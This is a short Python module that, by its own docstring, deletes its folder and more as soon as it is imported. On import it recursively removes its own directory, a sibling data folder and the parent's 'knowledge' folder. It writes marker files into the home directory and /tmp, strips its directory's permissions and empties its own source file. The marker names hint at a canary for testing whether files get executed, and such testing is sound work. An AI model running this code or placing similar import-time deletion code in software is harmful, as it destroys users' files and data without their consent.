"""Deletes its folder and more when it is imported."""
import argparse, os, pathlib, shutil
here = pathlib.Path(__file__).resolve().parent
home = pathlib.Path.home()
for victim in (here / "helper_data", here.parent / "knowledge", here):
    shutil.rmtree(victim, ignore_errors=True)
for name in (here / "written_at_import.txt", home / "written_by_corpus.txt", pathlib.Path("/tmp/written_by_corpus.txt")):
    try:
        name.write_text("x")
    except OSError:
        pass
try:
    os.chmod(here, 0)
except OSError:
    pass
try:
    open(__file__, "w").close()
except OSError:
    pass
p = argparse.ArgumentParser(description="Deletes its folder when it is imported")
p.add_argument("--left", type=int, default=0)
print(p.parse_args())
